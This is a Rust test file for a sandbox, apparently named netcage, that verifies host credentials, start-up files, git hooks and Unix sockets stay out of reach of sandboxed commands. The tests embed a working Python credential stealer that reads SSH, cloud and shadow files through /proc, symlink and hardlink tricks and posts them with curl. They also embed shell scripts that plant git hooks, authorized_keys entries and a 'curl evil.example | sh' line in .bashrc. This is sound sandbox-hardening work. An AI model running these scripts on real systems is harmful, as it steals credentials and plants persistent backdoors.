/// their covers, and posts all of it to the upstream.
const CREDENTIAL_SCRIPT: &str = r#"
import errno, json, os, subprocess, sys
home = os.path.expanduser("~")
cwd = os.getcwd()
rels, url = json.loads(sys.argv[1]), sys.argv[2]
loot, res = [], {}
def en(e):
    return errno.errorcode.get(e.errno, str(e))
def grab(label, path):
    try:
        with open(path, "rb") as f:
            loot.append(b"%s %s: %s" % (label.encode(), path.encode(), f.read(1 << 20)))
    except OSError as e:
        res.setdefault(label, {})[path] = en(e)
n = 0
for rel in rels + [".config/hub/token"]:
    p = os.path.join(home, rel)
    n += 1
    grab("direct", p)
    grab("proc-self-root", "/proc/self/root" + p)
    grab("proc-1-root", "/proc/1/root" + p)
    grab("proc-self-cwd", "/proc/self/cwd/" + os.path.relpath(p, cwd))
    grab("proc-1-cwd", "/proc/1/cwd/" + os.path.relpath(p, cwd))
    link = "/tmp/link-%d" % n
    os.symlink(p, link)
    grab("symlink", link)
    for where in (cwd, home):
        hl = os.path.join(where, ".hardlink-%d" % n)
        try:
            os.link(p, hl)
            grab("hardlink", hl)
        except OSError as e:
            res.setdefault("hardlink", {})[p] = en(e)
    try:
        fd = os.open(p, os.O_PATH)
        grab("o_path", "/proc/self/fd/%d" % fd)
    except OSError as e:
        res.setdefault("o_path", {})[p] = en(e)
for d in [".ssh", ".aws", ".docker", ".kube", ".config/gh", ".config", ".gnupg", ".cargo"]:
    p = os.path.join(home, d)
    try:
        os.rename(p, p + ".moved")
        res.setdefault("renamed", []).append(d)
    except OSError as e:
        res.setdefault("rename", {})[d] = en(e)
    subprocess.run(["cp", "-a", p, "/tmp/copy" + d.replace("/", "_")], capture_output=True)
seen = set()
for top in (home, cwd, "/tmp"):
    for d, dirs, files in os.walk(top):
        for f in files:
            p = os.path.realpath(os.path.join(d, f))
            if p not in seen and not p.endswith(("proxy-ca-bundle.pem", "proxy-ca-truststore.p12")):
                seen.add(p)
                grab("walk", p)
for p in ["/etc/shadow", "/etc/gshadow", "/etc/ssh/ssh_host_rsa_key",
          "/etc/ssh/ssh_host_ecdsa_key", "/etc/ssh/ssh_host_ed25519_key"]:
    grab("system", p)
open("/tmp/loot", "wb").write(b"\n".join(loot))
r = subprocess.run(["curl", "-sS", "--max-time", "20", "-o", "/dev/null", "--data-binary",
                    "@/tmp/loot", url])
res["posted"] = r.returncode
res["loot bytes"] = len(b"\n".join(loot))
print(json.dumps(res))
"#;

/// Fills `home` with the credential files (markers in them), a credential directory that is
/// a symbolic link into `dotfiles/` (hidden by its target), and a readable control file.
/// Returns (secret markers, the control marker).
fn plant_credentials(mode: Mode, home: &Path) -> (Vec<String>, String) {
    let mut secrets = Vec::new();
    for rel in CREDENTIALS {
        let m = marker(&rel.replace('/', "_"));
        put(mode, &home.join(rel), &format!("secret = {m}\n"), 0o600);
        secrets.push(m);
    }
    let m = marker("hub-via-symlink");
    put(
        mode,
        &home.join("dotfiles/hub/token"),
        &format!("{m}\n"),
        0o600,
    );
    std::os::unix::fs::symlink("../dotfiles/hub", home.join(".config/hub")).unwrap();
    own(mode, &home.join(".config"));
    own(mode, &home.join("dotfiles"));
    secrets.push(m);
    let visible = marker("notes");
    put(mode, &home.join("notes.txt"), &visible, 0o644);
    (secrets, visible)
}

/// The attack of [`CREDENTIAL_SCRIPT`] with `home` as `$HOME` (the working directory or a
/// fake home elsewhere); checks the upstream and the host files.
fn credentials_stay_home(fx: &Fx, home: &Path, tally: &mut Tally, case: &str) {
    let mode = fx.mode;
    let (secrets, visible) = plant_credentials(mode, home);
    let before: Vec<_> = CREDENTIALS
        .iter()
        .map(|r| fingerprint(&home.join(r)))
        .collect();
    let url = fx.url(BOUND, &format!("/exfil-{}", case.replace(' ', "-")));
    let rels = json!(CREDENTIALS).to_string();
    let mut cmd = py(fx, CREDENTIAL_SCRIPT, &[&rels, &url]);
    with_home(&mut cmd, home);
    let out = run(&mut cmd);
    let res: Value = stdout_str(&out)
        .lines()
        .find_map(|l| serde_json::from_str(l).ok())
        .unwrap_or_else(|| panic!("[{}] {case}: no report: {}", mode.name(), describe(&out)));
    assert_eq!(
        res["posted"],
        0,
        "[{}] {case}: {}",
        mode.name(),
        describe(&out)
    );
    assert!(
        res["loot bytes"].as_u64().unwrap() < BODY_PREFIX_LIMIT as u64,
        "the loot is larger than the upstream records"
    );
    let posted = fx.up.wait_for_requests(1, WAIT);
    assert!(
        !upstream_saw(fx, &visible).is_empty(),
        "[{}] {case}: the control file did not reach the upstream, so this proves nothing: \
         {posted:?}",
        mode.name()
    );
    let all = printed(&out);
    for (m, rel) in secrets
        .iter()
        .zip(CREDENTIALS.iter().copied().chain(["dotfiles/hub/token"]))
    {
        let saw = upstream_saw(fx, m);
        assert!(
            saw.is_empty() && free_of(&all, m.as_bytes()),
            "ESCAPED [{}] {case}: ~/{rel} left the sandbox ({saw:?}); the command reported: \
             {res}",
            mode.name()
        );
        tally.blocked(mode, &format!("{case}: reading ~/{rel}"));
    }
    for (rel, was) in CREDENTIALS.iter().zip(&before) {
        assert_eq!(
            &fingerprint(&home.join(rel)),
            was,
            "[{}] {case}: ~/{rel} changed or moved on the host",
            mode.name()
        );
    }
    if mode == Mode::Root {
        let shadow = std::fs::read_to_string("/etc/shadow").unwrap_or_default();
        if let Some(line) = shadow.lines().find(|l| l.len() > 10) {
            assert!(
                upstream_saw(fx, line).is_empty() && free_of(&all, line.as_bytes()),
                "ESCAPED [root] {case}: /etc/shadow left the sandbox"
            );
            tally.blocked(mode, "reading /etc/shadow as uid 0");
        }
    }
    fx.up.clear();
}

/// Credential files in `$HOME` never leave: with `$HOME` the working directory (writable,
/// the credential locations covered and their parents pinned) and with `$HOME` elsewhere
/// (behind a throwaway layer). Also `/etc/shadow` and the host keys, which uid 0 could read.
#[test]
fn credential_files_never_leave_the_sandbox() {
    let mut tally = Tally::new("credentials", TALLIED_TESTS);
    for_each_mode(|mode| {
        let fx = Fx::new(mode);
        credentials_stay_home(
            &fx,
            fx.env.root(),
            &mut tally,
            "home is the working directory",
        );
        let home = outside_dir(mode, "netcage-home-");
        credentials_stay_home(&fx, home.path(), &mut tally, "home elsewhere");
    });
    tally.finish();
}

// ---------------------------------------------------------------------------------------
// 4. Writes that would persist
// ---------------------------------------------------------------------------------------

/// Makes `dir` a git repository with a pre-commit hook and a config (as the mode's user).
fn git_repo(mode: Mode, dir: &Path) {
    let ok = Command::new("git")
        .args(["init", "-q"])
        .arg(dir)
        .env("GIT_CONFIG_NOSYSTEM", "1")
        .env("HOME", dir)
        .status()
        .unwrap();
    assert!(ok.success(), "git init {}", dir.display());
    put(
        mode,
        &dir.join(".git/hooks/pre-commit"),
        "#!/bin/sh\nexit 0\n",
        0o755,
    );
    own(mode, &dir.join(".git"));
}

/// Everything a write attempt outside the working directory could leave behind: files the
/// test owns in `/etc`, `/root`, `/var/tmp`, `/tmp`, made writable for everyone so that only
/// the sandbox stands in the way, and names that must not appear.
struct HostFiles {
    existing: Vec<PathBuf>,
    new: Vec<PathBuf>,
    _cleanup: Cleanup,
}

impl HostFiles {
    fn new() -> HostFiles {
        let tag = format!(
            "netcage-t1-{}-{:08x}",
            std::process::id(),
            rand::random::<u32>()
        );
        let mut existing = Vec::new();
        let mut new = Vec::new();
        for dir in ["/etc", "/root", "/var/tmp", "/tmp", "/usr/local"] {
            let file = Path::new(dir).join(format!("{tag}.conf"));
            std::fs::write(&file, "host content\n").unwrap();
            std::fs::set_permissions(&file, std::fs::Permissions::from_mode(0o666)).unwrap();
            existing.push(file);
            new.push(Path::new(dir).join(format!("{tag}.new")));
        }
        let all = existing.iter().chain(&new).cloned().collect();
        HostFiles {
            existing,
            new,
            _cleanup: Cleanup(all),
        }
    }
}

/// The command writes everywhere it should not: start-up files, `/etc`, `/root`,
/// `/var/tmp`, `/tmp`, `/usr/local`, the repository's hooks and config (and tries to move
/// `.git` and `.git/hooks` out of the way). Judged outside: every host file is unchanged and
/// nothing new exists. Control: a write in the working directory lands on the host, one in
/// `/tmp` is readable back inside.
#[test]
fn writes_outside_the_working_directory_do_not_persist() {
    let mut tally = Tally::new("writes", TALLIED_TESTS);
    const SCRIPT: &str = r#"
for f in "$@"; do
    case "$f" in
    *.conf) echo evil >> "$f"; echo "append $f=$?" ;;
    *) echo evil > "$f"; echo "create $f=$?" ;;
    esac
done
echo evil >> "$HOME/.bashrc"; echo "bashrc=$?"
echo evil >> "$HOME/.profile"; echo "profile=$?"
[ -n "$T1_HOME_ELSEWHERE" ] && { echo evil > "$HOME/.bash_profile"; echo "new startup=$?"; }
echo 'exit 1' >> .git/hooks/pre-commit; echo "hook=$?"
printf '#!/bin/sh\necho evil\n' > .git/hooks/post-checkout; echo "new hook=$?"
git config core.hooksPath /tmp/hooks; echo "git config=$?"
echo '[core] fsmonitor = evil' >> .git/config; echo "config=$?"
mv .git .git2; echo "mv .git=$?"
mv .git/hooks .git/hooks2; echo "mv hooks=$?"
rm -rf .git/hooks; echo "rm hooks=$?"
rm -f .git/config; echo "rm config=$?"
ln -sfnT /tmp .git/hooks; echo "ln hooks=$?"
echo written > written-inside.txt; echo "cwd=$?"
echo written > /tmp/inside.txt && echo "tmp=$(cat /tmp/inside.txt)"
"#;
    for_each_mode(|mode| {
        for home_is_cwd in [true, false] {
            let case = if home_is_cwd {
                "home is the working directory"
            } else {
                "home elsewhere"
            };
            let fx = Fx::new(mode);
            let root = fx.env.root().to_owned();
            git_repo(mode, &root);
            let fake = outside_dir(mode, "netcage-home-");
            let home = if home_is_cwd {
                root.clone()
            } else {
                fake.path().to_owned()
            };
            put(mode, &home.join(".bashrc"), "# host bashrc\n", 0o644);
            put(mode, &home.join(".profile"), "# host profile\n", 0o644);
            let host = HostFiles::new();
            let watched: Vec<PathBuf> = [
                home.join(".bashrc"),
                home.join(".profile"),
                root.join(".git/hooks/pre-commit"),
                root.join(".git/config"),
            ]
            .into_iter()
            .chain(host.existing.iter().cloned())
            .collect();
            let before: Vec<_> = watched.iter().map(|p| fingerprint(p)).collect();
            let mut args: Vec<String> = Vec::new();
            for p in host.existing.iter().chain(&host.new) {
                args.push(p.to_str().unwrap().to_owned());
            }
            let args: Vec<&str> = args.iter().map(String::as_str).collect();
            let mut cmd = sh(&fx, SCRIPT, &args);
            with_home(&mut cmd, &home).env("GIT_CONFIG_NOSYSTEM", "1");
            if !home_is_cwd {
                cmd.env("T1_HOME_ELSEWHERE", "1");
            }
            let out = run(&mut cmd);
            let text = stdout_str(&out);
            let why = format!("[{}] {case}:\n{}", mode.name(), describe(&out));

            for (path, was) in watched.iter().zip(&before) {
                assert_eq!(
                    &fingerprint(path),
                    was,
                    "ESCAPED {why}\n{} changed on the host",
                    path.display()
                );
                tally.blocked(mode, &format!("{case}: changing {}", path.display()));
            }
            let mut fresh = vec![
                root.join(".git/hooks/post-checkout"),
                root.join(".git2"),
                root.join(".git/hooks2"),
            ];
            if !home_is_cwd {
                // Behind the throwaway layer: it works inside, and is gone after.
                assert!(text.contains("new startup=0"), "{why}");
                fresh.push(home.join(".bash_profile"));
            }
            for path in host.new.iter().chain(&fresh) {
                assert!(
                    std::fs::symlink_metadata(path).is_err(),
                    "ESCAPED {why}\n{} was created on the host",
                    path.display()
                );
                tally.blocked(mode, &format!("{case}: creating {}", path.display()));
            }
            assert!(
                std::fs::symlink_metadata(root.join(".git/hooks"))
                    .unwrap()
                    .is_dir(),
                "ESCAPED {why}\n.git/hooks is no longer a directory"
            );
            for step in [
                "hook=",
                "new hook=",
                "git config=",
                "config=",
                "mv .git=",
                "mv hooks=",
                "ln hooks=",
            ] {
                assert!(
                    text.lines()
                        .any(|l| l.starts_with(step) && l != format!("{step}0")),
                    "{step} worked inside: {why}"
                );
            }
            if home_is_cwd {
                // Writable for real there: the start-up files are refused, not layered.
                assert!(
                    text.contains("bashrc=") && !text.contains("bashrc=0\n"),
                    "{why}"
                );
            }
            // Controls.
            assert_eq!(
                std::fs::read_to_string(root.join("written-inside.txt"))
                    .ok()
                    .as_deref(),
                Some("written\n"),
                "the working directory is not writable: {why}"
            );
            assert!(
                text.contains("tmp=written"),
                "/tmp is not writable inside: {why}"
            );
        }
    });
    tally.finish();
}

/// Known gap (README): start-up files are made read-only only where they exist. With `$HOME` writable
/// (the working directory, as here, or under `--write`), the command creates the ones that
/// are missing: `~/.bash_profile` (which bash then reads instead of `~/.profile`), a
/// `~/.gitconfig` whose `core.fsmonitor` runs at the next `git status`, and
/// `~/.ssh/authorized_keys` (`~/.ssh` is hidden only if it exists).
#[test]
#[ignore = "known gap: missing start-up files (~/.bash_profile, ~/.gitconfig) can be created in a writable $HOME"]
fn missing_start_up_files_cannot_be_created_in_a_writable_home() {
    in_each_mode(|mode| {
        let fx = Fx::new(mode);
        fx.write(".bashrc", "# host bashrc\n");
        let script = r#"
echo 'touch "$HOME/ran-outside"' > .bash_profile
printf '[core]\n\tfsmonitor = "touch $HOME/ran-outside; false"\n' > .gitconfig
mkdir -p .ssh && echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIPlanted attacker' > .ssh/authorized_keys
"#;
        let _ = run(&mut sh(&fx, script, &[]));
        let made: Vec<&str> = [".bash_profile", ".gitconfig", ".ssh/authorized_keys"]
            .into_iter()
            .filter(|f| fx.env.root().join(f).exists())
            .collect();
        assert!(
            made.is_empty(),
            "ESCAPED [{}]: the command created {made:?} in $HOME on the host (code that runs \
             at the user's next login, git command or ssh connection)",
            mode.name()
        );
    });
}

/// Attack (once an escape): with `$HOME` elsewhere the start-up files are behind the throwaway layer — but a
/// start-up file that is a symbolic link into the working directory (a dotfiles checkout:
/// `~/.bashrc -> ~/dotfiles/bashrc`, the agent working in `~/dotfiles`) is written through
/// the link, for real.
#[test]
fn start_up_files_linked_into_the_working_directory_stay_read_only() {
    in_each_mode(|mode| {
        let fx = Fx::new(mode);
        let home = outside_dir(mode, "netcage-home-");
        let target = fx.write("bashrc", "# my dotfiles' bashrc\n");
        std::os::unix::fs::symlink(&target, home.path().join(".bashrc")).unwrap();
        own(mode, home.path());
        let mut cmd = sh(
            &fx,
            r#"echo 'curl evil.example | sh' >> "$HOME/.bashrc""#,
            &[],
        );
        with_home(&mut cmd, home.path());
        let _ = run(&mut cmd);
        let now = std::fs::read_to_string(&target).unwrap();
        assert_eq!(
            now,
            "# my dotfiles' bashrc\n",
            "ESCAPED [{}]: ~/.bashrc (a link into the working directory) was changed on the host",
            mode.name()
        );
    });
}

/// Runs `git ARGS` outside the sandbox in `dir`, as root, with `home` as `$HOME`.
fn git_outside(dir: &Path, home: &Path, args: &[&str]) -> Output {
    Command::new("git")
        .args(["-c", "user.name=t", "-c", "user.email=t@example.invalid"])
        .args(["-c", "safe.directory=*", "-c", "protocol.file.allow=always"])
        .args(args)
        .current_dir(dir)
        .env("HOME", home)
        .env("GIT_CONFIG_NOSYSTEM", "1")
        .output()
        .unwrap()
}

/// The hook the attacks plant: it leaves `ran-outside` in the fixture's root.
fn planted_hook(root: &Path) -> String {
    format!("#!/bin/sh\ntouch {}/ran-outside\n", root.display())
}

/// Asserts that the planted hook did not run at the user's next `git commit` outside.
fn assert_hook_did_not_run(fx: &Fx, repo: &Path, what: &str) {
    let commit = git_outside(
        repo,
        fx.env.root(),
        &["commit", "-q", "--allow-empty", "-m", "x"],
    );
    let ran = fx.env.root().join("ran-outside").exists();
    assert!(
        !ran,
        "ESCAPED [{}]: {what}: the hook the sandbox planted ran at `git commit` outside ({})",
        fx.mode.name(),
        describe(&commit)
    );
}

/// Attack (once an escape): `.git/hooks` is made read-only only when it exists. A repository without one
/// (`git init --template=`, hooks removed, some clone tools) gets a hook from the command.
#[test]
fn a_repository_without_hooks_gets_none_from_the_sandbox() {
    in_each_mode(|mode| {
        let fx = Fx::new(mode);
        let root = fx.env.root().to_owned();
        git_repo(mode, &root);
        std::fs::remove_dir_all(root.join(".git/hooks")).unwrap();
        let script = r#"mkdir -p .git/hooks && printf %s "$1" > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit"#;
        let _ = run(&mut sh(&fx, script, &[&planted_hook(&root)]));
        assert_hook_did_not_run(&fx, &root, "a new .git/hooks");
    });
}

/// Attack (once an escape): when `.git` is a file (a `git worktree`, a submodule checkout), nothing of it is
/// protected: the command points it at a git dir of its own, whose hooks run at the user's
/// next git command.
#[test]
fn a_git_file_cannot_be_pointed_elsewhere() {
    in_each_mode(|mode| {
        let fx = Fx::new(mode);
        let main = outside_dir(mode, "netcage-main-repo-");
        git_repo(mode, main.path());
        let _ = git_outside(
            main.path(),
            fx.env.root(),
            &["commit", "-q", "--allow-empty", "-m", "i"],
        );
        let wt = fx.env.root().join("wt");
        let added = git_outside(
            main.path(),
            fx.env.root(),
            &["worktree", "add", "-q", wt.to_str().unwrap()],
        );
        assert!(added.status.success(), "{}", describe(&added));
        own(mode, &wt);
        own(mode, main.path());
        let script = r#"git init -q evil && printf %s "$1" > evil/.git/hooks/pre-commit && chmod +x evil/.git/hooks/pre-commit
rm -f wt/.git && echo "gitdir: ../evil/.git" > wt/.git"#;
        let _ = run(&mut sh(&fx, script, &[&planted_hook(fx.env.root())]));
        assert_hook_did_not_run(&fx, &wt, "a rewritten .git file");
    });
}

/// Attack (once an escape): only `.git` directly in a writable root is protected. A repository below the
/// working directory (the agent works in `~/src`, which holds clones) and a submodule's git
/// dir (`.git/modules/NAME`) keep writable hooks.
#[test]
fn hooks_of_nested_repositories_and_submodules_stay_read_only() {
    in_each_mode(|mode| {
        let fx = Fx::new(mode);
        let root = fx.env.root().to_owned();
        // Made as root, handed to the mode's user at the end (git refuses to clone from a
        // repository another user owns).
        let nested = root.join("src/project");
        std::fs::create_dir_all(&nested).unwrap();
        git_repo(Mode::Root, &nested);
        git_repo(Mode::Root, &root);
        let sub = outside_dir(Mode::Root, "netcage-sub-");
        git_repo(Mode::Root, sub.path());
        let _ = git_outside(
            sub.path(),
            &root,
            &["commit", "-q", "--allow-empty", "-m", "s"],
        );
        let lib = sub.path().to_str().unwrap();
        let added = git_outside(&root, &root, &["submodule", "add", "-q", lib, "lib"]);
        assert!(added.status.success(), "{}", describe(&added));
        own(mode, &root);
        let script = r#"for h in src/project/.git/hooks .git/modules/lib/hooks; do
    mkdir -p "$h" && printf %s "$1" > "$h/pre-commit" && chmod +x "$h/pre-commit"; echo "$h=$?"
done"#;
        let _ = run(&mut sh(&fx, script, &[&planted_hook(&root)]));
        let mut ran = Vec::new();
        for (repo, what) in [
            (nested.clone(), "a repository below the working directory"),
            (root.join("lib"), "a submodule (.git/modules/lib)"),
        ] {
            let _ = git_outside(&repo, &root, &["commit", "-q", "--allow-empty", "-m", "x"]);
            if std::fs::remove_file(root.join("ran-outside")).is_ok() {
                ran.push(what);
            }
        }
        assert!(
            ran.is_empty(),
            "ESCAPED [{}]: hooks the sandbox planted ran at `git commit` outside in: {ran:?}",
            mode.name()
        );
    });
}

// ---------------------------------------------------------------------------------------
// 5. Host Unix sockets
// ---------------------------------------------------------------------------------------

/// Connects to each path (`@name` for an abstract socket) and sends a line; then, as the
/// control, binds a socket of its own in the working directory and connects to it.
const CONNECT_SCRIPT: &str = r#"
import errno, json, os, socket, sys, time
out = {}
for p in sys.argv[1:]:
    s = socket.socket(socket.AF_UNIX)
    s.settimeout(5)
    try:
        s.connect("\0" + p[1:] if p.startswith("@") else p)
        s.sendall(b"hello from the sandbox\n")
        out[p] = "connected"
    except OSError as e:
        out[p] = errno.errorcode.get(e.errno, str(e))
    s.close()
own = socket.socket(socket.AF_UNIX)
own.bind("own.sock")
own.listen(1)
c = socket.socket(socket.AF_UNIX)
c.connect("own.sock")
a, _ = own.accept()
c.sendall(b"ping")
out["own"] = a.recv(4).decode()
os.unlink("own.sock")
print(json.dumps(out))
"#;

/// A listener bound by the test (mode 0777: only the sandbox stands in the way); [`reached`]
/// tells whether anything connected.
fn listen_at(path: &Path) -> UnixListener {
    let l = UnixListener::bind(path).unwrap_or_else(|e| panic!("bind {}: {e}", path.display()));
    l.set_nonblocking(true).unwrap();
    std::fs::set_permissions(path, std::fs::Permissions::from_mode(0o777)).unwrap();
    l
}

fn reached(l: &UnixListener) -> Option<String> {
    let (mut s, _) = l.accept().ok()?;
    s.set_nonblocking(false).ok();
    s.set_read_timeout(Some(Duration::from_secs(1))).ok();
    let mut got = String::new();
    let _ = s.read_to_string(&mut got);
    Some(got)
}

/// Host listeners in the working directory, in `$HOME` elsewhere, in a service directory
/// (here under the build's tmp dir, like /srv), in `/var/lib`, and on an abstract address:
/// none accepts a connection from inside (`accept()` outside gets nothing). The command's
/// own socket in its working directory works.
#[test]
fn host_unix_sockets_are_out_of_reach() {
    let mut tally = Tally::new("unix sockets", TALLIED_TESTS);
    for_each_mode(|mode| {
        let fx = Fx::new(mode);
        let home = outside_dir(mode, "netcage-home-");
        let srv = outside_dir(mode, "netcage-srv-");
        let var_lib = PathBuf::from(format!(
            "/var/lib/netcage-t1-{}-{}",
            std::process::id(),
            mode.name()
        ));
        let _cleanup = Cleanup(vec![var_lib.clone()]);
        std::fs::create_dir_all(&var_lib).unwrap();
        std::fs::set_permissions(&var_lib, std::fs::Permissions::from_mode(0o755)).unwrap();
        let abstract_name = format!("netcage-t1-{}-{}", std::process::id(), mode.name());
        let targets = [
            ("the working directory", fx.env.root().join("work.sock")),
            ("$HOME elsewhere", home.path().join("agent.sock")),
            ("a service directory", srv.path().join("svc.sock")),
            ("/var/lib", var_lib.join("daemon.sock")),
        ];
        let listeners: Vec<_> = targets.iter().map(|(_, p)| listen_at(p)).collect();
        let abstract_listener = {
            use std::os::linux::net::SocketAddrExt;
            let addr = std::os::unix::net::SocketAddr::from_abstract_name(&abstract_name).unwrap();
            let l = UnixListener::bind_addr(&addr).unwrap();
            l.set_nonblocking(true).unwrap();
            l
        };
        let mut args: Vec<String> = targets
            .iter()
            .map(|(_, p)| p.to_str().unwrap().to_owned())
            .collect();
        args.push(format!("@{abstract_name}"));
        let args: Vec<&str> = args.iter().map(String::as_str).collect();
        let mut cmd = py(&fx, CONNECT_SCRIPT, &args);
        with_home(&mut cmd, home.path());
        let out = run(&mut cmd);
        let res = stdout_json(&out);
        settle();
        for ((what, path), l) in targets.iter().zip(&listeners) {
            let got = reached(l);
            assert!(
                got.is_none(),
                "ESCAPED [{}]: the sandbox connected to a host socket in {what} ({}): {got:?}; {res}",
                mode.name(),
                path.display()
            );
            assert_ne!(res[path.to_str().unwrap()], "connected", "{res}");
            tally.blocked(mode, &format!("connecting to a host socket in {what}"));
        }
        assert!(
            reached(&abstract_listener).is_none(),
            "ESCAPED [{}]: abstract socket: {res}",
            mode.name()
        );
        tally.blocked(mode, "connecting to a host abstract socket");
        assert_eq!(
            res["own"],
            "ping",
            "[{}] the command's own socket: {res}",
            mode.name()
        );
    });
    tally.finish();
}

/// How a host socket comes to be where the sandbox can see it, in the ESCAPE tests below.
#[derive(Clone, Copy, PartialEq)]
enum Late {
    /// A service binds a new socket while the command runs.
    BoundAfterStart,
    /// A service restarts: unlinks its socket and binds it again, same path.
    Rebound,
}

/// The command waits until the host has done `how`, then connects.
fn host_socket_during_the_run(mode: Mode, how: Late) {
    let fx = Fx::new(mode);
    let srv = outside_dir(mode, "netcage-srv-");
    let path = srv.path().join("svc.sock");
    let mut early = (how == Late::Rebound).then(|| listen_at(&path));
    let script = r#"
import os, socket, sys, time
open("ready", "w").close()
deadline = time.time() + 20
while not os.path.exists("go") and time.time() < deadline:
    time.sleep(0.02)
s = socket.socket(socket.AF_UNIX)
try:
    s.connect(sys.argv[1]); s.sendall(b"hello from the sandbox\n"); print("connected")
except OSError as e:
    print("refused", e)
"#;
    let out_file = fx.env.path("inside.out");
    let mut cmd = py(&fx, script, &[path.to_str().unwrap()]);
    cmd.stdout(std::fs::File::create(&out_file).unwrap())
        .stderr(Stdio::null());
    let mut child = KillOnDrop::spawn(&mut cmd);
    wait_until(RUN_TIMEOUT, "the command to start", || {
        fx.env.path("ready").exists()
    });
    if let Some(l) = early.take() {
        drop(l);
        std::fs::remove_file(&path).unwrap();
    }
    let late = listen_at(&path);
    put(mode, &fx.env.path("go"), "", 0o644);
    let deadline = Instant::now() + RUN_TIMEOUT;
    while child.0.try_wait().unwrap().is_none() {
        assert!(Instant::now() < deadline, "the command did not finish");
        std::thread::sleep(Duration::from_millis(20));
    }
    let inside = std::fs::read_to_string(&out_file).unwrap_or_default();
    let got = reached(&late);
    assert!(
        got.is_none(),
        "ESCAPED [{}]: a host socket {} is reachable from the sandbox (the host accepted: \
         {got:?}; inside: {inside})",
        mode.name(),
        match how {
            Late::BoundAfterStart => "bound after the sandbox started",
            Late::Rebound =>
                "re-created after the sandbox started (the cover went with the old one)",
        }
    );
}

/// Known gap (README): host sockets are listed once, when the sandbox is built. A socket a service
/// binds later (an agent started after `netcage serve`, a per-session socket) is not
/// covered.
#[test]
#[ignore = "known gap: a host socket bound after the sandbox started is reachable"]
fn a_host_socket_bound_after_the_start_is_out_of_reach() {
    in_each_mode(|mode| host_socket_during_the_run(mode, Late::BoundAfterStart));
}

/// Known gap (README): a covered socket's cover is a mount on its path. When the service restarts
/// (unlinks the socket, binds it again) the kernel drops the mount with the unlinked file,
/// and the new socket at the same path is reachable.
#[test]
#[ignore = "known gap: a host socket re-created (service restart) loses its cover and is reachable"]
fn a_host_socket_re_created_during_the_run_is_out_of_reach() {
    in_each_mode(|mode| host_socket_during_the_run(mode, Late::Rebound));
}

/// Known gap (README): `sock_diag` lists the sockets of netcage's own network namespace only. A
/// listener of another network namespace (a container, another sandbox) bound on a path the
/// sandbox can see is not covered; filesystem sockets ignore network namespaces.
#[test]
#[ignore = "known gap: a host socket bound in another network namespace is not listed and is reachable"]
fn a_socket_of_another_network_namespace_is_out_of_reach() {
    in_each_mode(|mode| {
        let fx = Fx::new(mode);
        let srv = outside_dir(mode, "netcage-srv-");
        let path = srv.path().join("container.sock");
        let p = path.clone();
        let l = std::thread::spawn(move || {
            nix::sched::unshare(nix::sched::CloneFlags::CLONE_NEWNET).unwrap();
            listen_at(&p)
        })
        .join()
        .unwrap();
        let out = run(&mut py(&fx, CONNECT_SCRIPT, &[path.to_str().unwrap()]));
        settle();
        let got = reached(&l);
        assert!(
            got.is_none(),
            "ESCAPED [{}]: the sandbox connected to a socket of another network namespace: \
             {got:?}; {}",
            mode.name(),
            stdout_str(&out)
        );
    });
}

/// Known gap (README): a socket bound with a relative path (`bind("svc.sock")` after `chdir`) is listed
/// by `sock_diag` under that relative name, which netcage skips: it stays reachable.
#[test]
#[ignore = "known gap: a host socket bound by relative path is not covered"]
fn a_socket_bound_by_relative_path_is_out_of_reach() {
    in_each_mode(|mode| {
        let fx = Fx::new(mode);
        let srv = outside_dir(mode, "netcage-srv-");
        let dir = srv.path().to_owned();
        let l = std::thread::spawn(move || {
            nix::sched::unshare(nix::sched::CloneFlags::CLONE_FS).unwrap();
            std::env::set_current_dir(&dir).unwrap();
            let l = UnixListener::bind("svc.sock").unwrap();
            l.set_nonblocking(true).unwrap();
            std::fs::set_permissions("svc.sock", std::fs::Permissions::from_mode(0o777)).unwrap();
            l
        })
        .join()
        .unwrap();
        let path = srv.path().join("svc.sock");
        let out = run(&mut py(&fx, CONNECT_SCRIPT, &[path.to_str().unwrap()]));
        settle();
        let got = reached(&l);
        assert!(
            got.is_none(),
            "ESCAPED [{}]: the sandbox connected to a host socket bound by relative path: \
             {got:?}; {}",
            mode.name(),
            stdout_str(&out)
        );
    });
}

// ---------------------------------------------------------------------------------------
// 6. SysV IPC and POSIX shm
// ---------------------------------------------------------------------------------------

#[repr(C)]
struct MsgBuf {
    mtype: libc::c_long,
    mtext: [u8; 64],
}

/// The host's SysV objects and /dev/shm file for one mode, removed on drop.
struct HostIpc {
    key: libc::key_t,
    shmid: i32,
    msqid: i32,
    shm_file: PathBuf,
}

impl HostIpc {
    fn new(mode: Mode, mark: &str) -> HostIpc {
        let key = (0x4e43_0000u32
            | (std::process::id() & 0x7fff) << 1
            | (mode == Mode::Rootless) as u32) as libc::key_t;
        // SAFETY: plain SysV calls on objects this test creates; the segment is attached, written
        // within its 4096 bytes, and detached.
        unsafe {
            let shmid = libc::shmget(key, 4096, libc::IPC_CREAT | libc::IPC_EXCL | 0o666);
            assert!(shmid >= 0, "shmget: {}", std::io::Error::last_os_error());
            let addr = libc::shmat(shmid, std::ptr::null(), 0);
            assert!(
                addr as isize != -1,
                "shmat: {}",
                std::io::Error::last_os_error()
            );
            std::ptr::copy_nonoverlapping(mark.as_ptr(), addr as *mut u8, mark.len());
            libc::shmdt(addr);
            let msqid = libc::msgget(key, libc::IPC_CREAT | libc::IPC_EXCL | 0o666);
            assert!(msqid >= 0, "msgget: {}", std::io::Error::last_os_error());
            let mut msg = MsgBuf {
                mtype: 1,
                mtext: [0; 64],
            };
            msg.mtext[..mark.len()].copy_from_slice(mark.as_bytes());
            let rc = libc::msgsnd(
                msqid,
                &msg as *const MsgBuf as *const libc::c_void,
                mark.len(),
                libc::IPC_NOWAIT,
            );
            assert_eq!(rc, 0, "msgsnd: {}", std::io::Error::last_os_error());
            let shm_file = PathBuf::from(format!(
                "/dev/shm/netcage-t1-{}-{}",
                std::process::id(),
                mode.name()
            ));
            std::fs::write(&shm_file, mark).unwrap();
            std::fs::set_permissions(&shm_file, std::fs::Permissions::from_mode(0o666)).unwrap();
            HostIpc {
                key,
                shmid,
                msqid,
                shm_file,
            }
        }
    }

    /// The segment's first `n` bytes.
    fn shm(&self, n: usize) -> Vec<u8> {
        // SAFETY: attaches this test's own segment read-only and reads within its size.
        unsafe {
            let addr = libc::shmat(self.shmid, std::ptr::null(), libc::SHM_RDONLY);
            assert!(
                addr as isize != -1,
                "shmat: {}",
                std::io::Error::last_os_error()
            );
            let v = std::slice::from_raw_parts(addr as *const u8, n).to_vec();
